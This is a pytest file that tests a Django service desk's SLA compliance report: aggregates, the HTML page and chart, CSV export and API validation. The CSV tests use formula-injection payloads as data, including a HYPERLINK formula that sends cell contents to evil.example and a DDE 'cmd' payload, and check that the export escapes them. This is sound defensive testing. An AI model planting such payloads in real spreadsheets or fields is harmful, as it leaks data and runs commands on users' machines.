"""SLA compliance report: the aggregate (per SLA, group, priority, month), the page with
its chart and CSV export, and the API; numbers checked by hand."""

from __future__ import annotations

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
from django.core.exceptions import ValidationError

from mainspring.core.services import add_journal_entry
from mainspring.incidents import services as incidents
from mainspring.sla.models import SlaDefinition, SlaTimer
from mainspring.sla.report import compliance
from tests.api.helpers import assert_error
from tests.factories import GroupFactory, make_incident

from .conftest import T0

MIN = dt.timedelta(minutes=1)
H = dt.timedelta(hours=1)
JUNE = {
    "start": dt.datetime(2026, 6, 1, tzinfo=dt.UTC),
    "end": dt.datetime(2026, 7, 1, tzinfo=dt.UTC),
}
REPORT = "/sla/report/"
API = "/api/v1/sla-report/"


def table(report) -> dict[str, tuple]:
    """label -> (met, breached, percent, mean respond s, mean resolve s)."""
    return {
        r.label: (
            r.met,
            r.breached,
            r.percent_met,
            r.mean_response_seconds,
            r.mean_resolution_seconds,
        )
        for r in [*report.rows, report.total]
    }


# -- from real tickets, through the services -------------------------------------------------
@pytest.fixture
def worked(clock, agent, requester, service_desk, network_team, make_sla):
    """Timers made by the real services, at T0 (Monday 1 June 2026, 08:00 UTC):

    * A (P3, Service Desk): answered at +5 min (met, 300 s), resolved at +30 min (met, 1800 s);
    * B (P1, Service Desk, moved to Network at +10 min): answered at +20 min (breached,
      1200 s), resolved at +90 min (breached, 5400 s) — both snapshots say Network;
    * C (P3, no group): cancelled at +40 min, so both timers are cancelled (not counted);
    * D (P3, Service Desk): opened at +100 min, still running (not counted).
    """
    make_sla(name="Respond in 15 min", target="response", duration_seconds=15 * 60)
    make_sla(name="Resolve in 1 h", target="resolution", duration_seconds=3600)
    base = {"by": agent, "requester": requester}
    a = make_incident(**base, assignment_group=service_desk, impact="medium", urgency="medium")
    b = make_incident(**base, assignment_group=service_desk, impact="high", urgency="high")
    c = make_incident(**base, impact="medium", urgency="medium")
    assert (a.priority, b.priority) == (3, 1)
    clock.shift(5 * MIN)
    add_journal_entry(a, by=agent, kind="comment", body="On it")
    clock.shift(5 * MIN)
    incidents.update_incident(b, by=agent, assignment_group=network_team)
    clock.shift(10 * MIN)
    add_journal_entry(b, by=agent, kind="comment", body="Looking")
    clock.shift(10 * MIN)  # +30
    incidents.resolve(a, by=agent, code="solved", notes="done")
    clock.shift(10 * MIN)  # +40
    incidents.cancel(c, by=agent, reason="duplicate")
    clock.shift(50 * MIN)  # +90
    incidents.resolve(b, by=agent, code="solved", notes="done")
    clock.shift(10 * MIN)  # +100
    make_incident(**base, assignment_group=service_desk, impact="medium", urgency="medium")
    states = sorted(SlaTimer.objects.values_list("state", flat=True))
    assert states == ["breached"] * 2 + ["cancelled"] * 2 + ["in_progress"] * 2 + ["met"] * 2
    return {"a": a, "b": b}


def test_by_sla_from_real_tickets(worked):
    assert table(compliance(**JUNE, by="sla")) == {
        "Resolve in 1 h": (1, 1, 50.0, None, (1800 + 5400) // 2),
        "Respond in 15 min": (1, 1, 50.0, (300 + 1200) // 2, None),
        "All": (2, 2, 50.0, 750, 3600),
    }


def test_by_group_uses_the_group_at_the_stop(worked, service_desk, network_team):
    report = compliance(**JUNE, by="group")
    assert table(report) == {
        "Network": (0, 2, 0.0, 1200, 5400),
        "Service Desk": (2, 0, 100.0, 300, 1800),
        "All": (2, 2, 50.0, 750, 3600),
    }
    assert [r.key for r in report.rows] == [str(network_team.pk), str(service_desk.pk)]


def test_by_priority_and_month(worked):
    assert table(compliance(**JUNE, by="priority")) == {
        "P1 Critical": (0, 2, 0.0, 1200, 5400),
        "P3 Moderate": (2, 0, 100.0, 300, 1800),
        "All": (2, 2, 50.0, 750, 3600),
    }
    report = compliance(**JUNE, by="month")
    assert [(r.key, r.label) for r in report.rows] == [("2026-06", "June 2026")]
    assert table(report)["June 2026"] == (2, 2, 50.0, 750, 3600)


def test_period_is_start_included_end_excluded(worked):
    assert compliance(start=T0, end=T0 + MIN, by="sla").total.counted == 4
    assert compliance(start=T0 + dt.timedelta(microseconds=1), end=T0 + H, by="sla").rows == []
    before = compliance(start=T0 - H, end=T0, by="sla")
    assert before.rows == [] and before.total.percent_met is None


# -- aggregate shape, rows written directly ------------------------------------------------
@pytest.fixture
def make_timer(db, agent, always):
    ticket = make_incident(by=agent)  # no SLA defined yet: no timers of its own
    definitions: dict[str, SlaDefinition] = {}

    def make(name="Fix", *, target="resolution", state="met", at=T0, banked_s=0.0, **fields):
        definition = definitions.get(name)
        if definition is None:
            definition = definitions[name] = SlaDefinition.objects.create(
                name=name, target=target, duration_seconds=3600, calendar=always
            )
        stopped = fields.pop("stopped", False) or state in ("met", "cancelled")
        return SlaTimer.objects.create(
            ticket=ticket,
            definition=definition,
            name=name,
            target=target,
            duration_seconds=3600,
            calendar_config=always.as_config(),
            reopen="resume",
            state=state,
            started_at=at,
            banked_us=round(banked_s * 1_000_000),
            stopped_at=at + H if stopped else None,
            **fields,
        )

    return make


def test_breached_counts_while_running_but_only_stopped_timers_feed_the_mean(make_timer):
    make_timer(state="met", banked_s=1.5)
    make_timer(state="met", banked_s=2.0)
    make_timer(state="breached", banked_s=5000, stopped=True)
    make_timer(state="breached", banked_s=99_999)  # still running: counted, not averaged
    make_timer(state="in_progress", banked_s=10)
    make_timer(state="paused", banked_s=10)
    make_timer(state="cancelled", banked_s=10)
    row = compliance(**JUNE, by="sla").rows[0]
    assert (row.met, row.breached, row.resolutions) == (2, 2, 3)
    assert row.percent_met == 50.0
    # (1.5 + 2 + 5000) / 3 = 1667.83 s -> 1668
    assert row.mean_resolution_seconds == 1668
    assert row.mean_response_seconds is None


def test_rounding_and_labels_for_missing_values(make_timer, service_desk):
    make_timer("Respond", target="response", state="met", banked_s=1.5, priority=2)
    make_timer("Respond", target="response", state="met", banked_s=2.0, priority=None)
    make_timer("Respond", target="response", state="breached", stopped=True, banked_s=3, priority=2)
    report = compliance(**JUNE, by="priority")
    assert table(report) == {
        "P2 High": (1, 1, 50.0, 2, None),  # (1.5 + 3) / 2 = 2.25
        "No priority": (1, 0, 100.0, 2, None),
        "All": (2, 1, 66.7, 2, None),  # 6.5 / 3 = 2.17
    }
    assert [r.key for r in report.rows] == ["2", None]
    assert table(compliance(**JUNE, by="group"))["No group"] == (2, 1, 66.7, 2, None)


def test_group_and_sla_names_cost_one_query(make_timer, django_assert_num_queries):
    for i in range(6):
        group = GroupFactory(name=f"Team {i}")
        make_timer(f"SLA {i}", assignment_group=group)
    with django_assert_num_queries(2):
        assert len(compliance(**JUNE, by="group").rows) == 6
    with django_assert_num_queries(2):
        assert len(compliance(**JUNE, by="sla").rows) == 6
    with django_assert_num_queries(1):
        compliance(**JUNE, by="priority")
    with django_assert_num_queries(1):  # one statement, whatever the number of months
        year = compliance(start=JUNE["start"], end=JUNE["start"].replace(year=2027), by="month")
    assert len(year.rows) == 12 and year.rows[0].met == 6


@pytest.mark.parametrize(
    ("tz", "expected"),
    [
        # 21:30 UTC on 31 May is 23:30 in Paris (May); 22:30 UTC is 00:30 on 1 June.
        ("Europe/Paris", {"2026-04": 0, "2026-05": 1, "2026-06": 1}),
        ("UTC", {"2026-04": 0, "2026-05": 2, "2026-06": 0}),
    ],
)
def test_months_are_read_in_the_site_time_zone(settings, make_timer, tz, expected):
    settings.TIME_ZONE = tz
    make_timer(at=dt.datetime(2026, 5, 31, 21, 30, tzinfo=dt.UTC))
    make_timer(at=dt.datetime(2026, 5, 31, 22, 30, tzinfo=dt.UTC))
    zone = ZoneInfo(tz)
    report = compliance(
        start=dt.datetime(2026, 4, 1, tzinfo=zone),
        end=dt.datetime(2026, 7, 1, tzinfo=zone),
        by="month",
    )
    # Every month of the period has a row, the empty one too (no gaps in the chart).
    assert {r.key: r.met for r in report.rows} == expected
    assert [r.percent_met for r in report.rows if not r.counted] == [None] * list(
        expected.values()
    ).count(0)
    assert report.time_zone == tz


def test_naive_datetimes_are_in_the_site_time_zone(settings, make_timer):
    settings.TIME_ZONE = "Europe/Paris"
    make_timer(at=dt.datetime(2026, 5, 31, 22, 30, tzinfo=dt.UTC))  # 00:30 on 1 June, Paris
    report = compliance(start=dt.datetime(2026, 6, 1), end=dt.datetime(2026, 6, 2), by="sla")
    assert report.total.met == 1
    assert report.start == dt.datetime(2026, 5, 31, 22, tzinfo=dt.UTC)


@pytest.mark.parametrize(
    ("start", "end", "by", "field"),
    [
        (T0, T0, "sla", "end"),
        (T0 + H, T0, "sla", "end"),
        (T0, T0 + dt.timedelta(days=3 * 366 + 1), "sla", "end"),
        (T0, T0 + H, "ticket_id", "by"),
        (T0, T0 + H, "", "by"),
    ],
)
def test_bad_input_is_a_field_error(db, start, end, by, field):
    with pytest.raises(ValidationError) as caught:
        compliance(start=start, end=end, by=by)
    assert field in caught.value.message_dict


def test_three_years_is_allowed(db):
    start = dt.datetime(2024, 1, 1, tzinfo=dt.UTC)
    assert (
        compliance(start=start, end=start.replace(year=2027), by="month").rows[-1].key == "2026-12"
    )


# -- the page --------------------------------------------------------------------------------
def test_page_shows_table_chart_and_csv_link(client, worked, agent):
    client.force_login(agent)
    response = client.get(REPORT, {"from": "2026-06-01", "to": "2026-06-30", "by": "sla"})
    assert response.status_code == 200
    page = response.content.decode()
    assert "Respond in 15 min" in page and "Resolve in 1 h" in page
    assert "50.0 %" in page and "12 min" in page  # 750 s to respond
    # The chart: an image with a text alternative; 50 % of the 250-unit bar is met.
    assert 'role="img"' in page and '<title id="chart-title">' in page
    assert 'width="125" height="20" fill="#1e6b3a"' in page
    assert "style=" not in page.split("<main", 1)[1]  # the CSP forbids inline styles
    assert 'href="/sla/report/?from=2026-06-01&amp;to=2026-06-30&amp;by=sla&amp;format=csv"' in page
    assert 'aria-current="page">SLA report</a>' in page


def test_page_by_month_shows_every_month(client, worked, agent):
    client.force_login(agent)
    response = client.get(REPORT, {"from": "2026-05-15", "to": "2026-07-02", "by": "month"})
    page = response.content.decode()
    assert [r.label for r in response.context["report"].rows] == [
        "May 2026",
        "June 2026",
        "July 2026",
    ]
    assert page.count(">no timers</text>") == 2  # May and July: an outlined empty bar
    assert "Percent met by month" in page and "Compliance by month" in page


def test_page_defaults_to_the_last_30_days(client, worked, agent, clock):
    client.force_login(agent)
    response = client.get(REPORT)
    assert response.status_code == 200
    form = response.context["form"]
    assert (form.cleaned_data["from"], form.cleaned_data["to"]) == (
        dt.date(2026, 5, 3),
        dt.date(2026, 6, 1),
    )
    assert response.context["report"].total.counted == 4


@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        ({"from": "garbage"}, "from", "Enter a valid date."),
        ({"from": "2026-06-10", "to": "2026-06-01"}, "to", "on or after"),
        ({"from": "2020-01-01", "to": "2026-06-01"}, "to", "at most 3 years"),
        ({"by": "state"}, "by", "Select a valid choice."),
        ({"to": "2026-02-30"}, "to", "Enter a valid date."),
    ],
)
def test_page_bad_input_keeps_it_with_a_field_error(client, agent, params, field, message):
    client.force_login(agent)
    response = client.get(REPORT, {**params, "format": "csv"})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    form = response.context["form"]
    assert message in " ".join(form.errors[field])
    page = response.content.decode()
    assert f'id="id_{field}_error"' in page and "error-summary" in page
    if field != "by":  # what was typed is shown again
        assert f'value="{params[field]}"' in page


@pytest.mark.parametrize("tz", ["America/New_York", "Asia/Tokyo"])
def test_page_survives_extreme_dates(client, agent, settings, tz):
    settings.TIME_ZONE = tz
    client.force_login(agent)
    for params in (
        {"from": "9999-12-30", "to": "9999-12-31"},
        {"from": "0001-01-01", "to": "0001-01-02"},
    ):
        assert client.get(REPORT, params).status_code in (200, 400)


def test_a_period_boundary_the_clocks_skip_is_the_jump(api_for, agent, settings):
    """The calendar's DST rule holds for the period too: 02:30 on 14 March 2027 does not
    exist in New York; the period starts when the clocks jump, 03:00 EDT (07:00Z)."""
    settings.TIME_ZONE = "America/New_York"
    response = api_for(agent).get(API, {"start": "2027-03-14T02:30", "end": "2027-11-07T01:30"})
    assert response.status_code == 200, response.json()
    start = dt.datetime.fromisoformat(response.json()["start"])
    end = dt.datetime.fromisoformat(response.json()["end"])
    assert start == dt.datetime(2027, 3, 14, 7, tzinfo=dt.UTC)
    assert end == dt.datetime(2027, 11, 7, 5, 30, tzinfo=dt.UTC)  # first 01:30 (EDT)


def test_requesters_get_404_and_anonymous_the_login(client, requester, worked):
    client.force_login(requester)
    assert client.get(REPORT).status_code == 404
    assert client.get(REPORT, {"format": "csv"}).status_code == 404
    client.logout()
    assert client.get(REPORT).status_code == 302


def test_page_queries_do_not_grow_with_rows(
    client, agent, make_timer, django_assert_max_num_queries
):
    for i in range(8):
        make_timer(f"SLA {i}", assignment_group=GroupFactory(name=f"Team {i}"))
    client.force_login(agent)
    for by in ("sla", "group", "priority", "month"):
        # session + user, the aggregate, the names
        with django_assert_max_num_queries(4):
            response = client.get(REPORT, {"from": "2026-06-01", "to": "2026-06-30", "by": by})
        assert response.status_code == 200


# -- CSV -------------------------------------------------------------------------------------
def test_csv_export_with_formula_escaping(client, agent, make_timer):
    make_timer('=HYPERLINK("http://evil.example/?"&A1,"click")', state="met", banked_s=5400)
    make_timer("@SUM(1)", target="response", state="breached", stopped=True, banked_s=1800)
    make_timer("-2+3", state="breached", banked_s=10)  # running: counted, no mean
    client.force_login(agent)
    response = client.get(
        REPORT, {"from": "2026-06-01", "to": "2026-06-30", "by": "sla", "format": "csv"}
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="sla-compliance-2026-06-01-to-2026-06-30-by-sla.csv"'
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [
        [
            "SLA",
            "Met",
            "Breached",
            "Percent met",
            "Mean time to respond (business hours)",
            "Mean time to resolve (business hours)",
        ],
        ["'-2+3", "0", "1", "0.0", "", ""],
        ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "1", "0", "100.0", "", "1.50"],
        ["'@SUM(1)", "0", "1", "0.0", "0.50", ""],
        ["All", "1", "2", "33.3", "0.50", "1.50"],
    ]


def test_csv_of_group_names_is_escaped_too(client, agent, make_timer):
    make_timer(assignment_group=GroupFactory(name="+cmd|' /C calc'!A0"))
    make_timer(assignment_group=GroupFactory(name="\tTabbed"))
    client.force_login(agent)
    response = client.get(
        REPORT, {"from": "2026-06-01", "to": "2026-06-30", "by": "group", "format": "csv"}
    )
    labels = [r[0] for r in csv.reader(io.StringIO(response.content.decode()))][1:-1]
    assert labels == ["'\tTabbed", "'+cmd|' /C calc'!A0"]


# -- API -------------------------------------------------------------------------------------
def test_api_report(api_for, agent, manager, worked, service_desk):
    response = api_for(manager).get(
        API, {"start": "2026-06-01", "end": "2026-07-01", "by": "group"}
    )
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["start"] == "2026-06-01T00:00:00Z" and body["end"] == "2026-07-01T00:00:00Z"
    assert body["by"] == "group" and body["time_zone"] == "UTC"
    desk = next(r for r in body["rows"] if r["label"] == "Service Desk")
    assert desk == {
        "key": str(service_desk.pk),
        "label": "Service Desk",
        "met": 2,
        "breached": 0,
        "percent_met": 100.0,
        "mean_response_seconds": 300,
        "mean_resolution_seconds": 1800,
        "responses": 1,
        "resolutions": 1,
    }
    assert body["total"]["percent_met"] == 50.0 and body["total"]["key"] is None
    # ISO date-times with an offset; by defaults to sla.
    response = api_for(agent).get(
        API, {"start": "2026-06-01T10:00:00+02:00", "end": "2026-06-02T00:00Z"}
    )
    assert response.status_code == 200
    assert response.json()["by"] == "sla" and response.json()["total"]["met"] == 2


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"start": "2026-06-02", "end": "2026-06-01"}, "end"),
        ({"start": "2026-06-01", "end": "2030-06-01"}, "end"),
        ({"start": "2026-06-01", "end": "2026-07-01", "by": "ticket"}, "by"),
        ({"start": "garbage", "end": "2026-07-01"}, "start"),
        ({"start": "2026-06-01", "end": "2026-02-30"}, "end"),
        ({"start": "2026-06-01T25:00:00", "end": "2026-07-01"}, "start"),
        ({"end": "2026-07-01"}, "start"),
        ({"start": "0001-01-01T00:00:00+05:00", "end": "0001-01-02"}, "start"),
        ({"start": "2026-06-01", "end": "2026-07-01", "group": "1"}, "group"),
        ({"start": "2026-06-01\x00", "end": "2026-07-01"}, "start"),
    ],
)
def test_api_bad_input_is_400_with_the_field(api_for, agent, params, field):
    error = assert_error(api_for(agent).get(API, params), 400, "invalid")
    assert field in error["fields"], error


def test_api_is_for_agents(api_for, requester, client, db):
    params = {"start": "2026-06-01", "end": "2026-07-01"}
    assert_error(api_for(requester).get(API, params), 403, "forbidden")
    assert_error(client.get(API, params), 401, "not_authenticated")
    assert_error(api_for(requester).get(API, {}), 403, "forbidden")  # before any parsing


@pytest.mark.parametrize("by", ["sla", "group", "priority", "month"])
def test_api_query_count_is_bounded(api_for, agent, make_timer, by, django_assert_max_num_queries):
    for i in range(5):
        make_timer(f"SLA {i}", assignment_group=GroupFactory(name=f"Team {i}"), priority=i % 3 + 1)
    client = api_for(agent)
    # token + user, the aggregate, the names
    with django_assert_max_num_queries(5):
        response = client.get(API, {"start": "2026-06-01", "end": "2026-07-01", "by": by})
    assert response.status_code == 200
    assert response.json()["total"]["met"] == 5


@pytest.mark.django_db
def test_postgres_has_the_covering_report_index():
    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL: set MAINSPRING_DATABASE_URL (SQLite has no INCLUDE)")
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT indexdef FROM pg_indexes WHERE indexname = 'sla_timer_report_cover_idx'"
        )
        (definition,) = cursor.fetchone()
    assert "INCLUDE (target, state, definition_id" in definition
    assert "WHERE" in definition
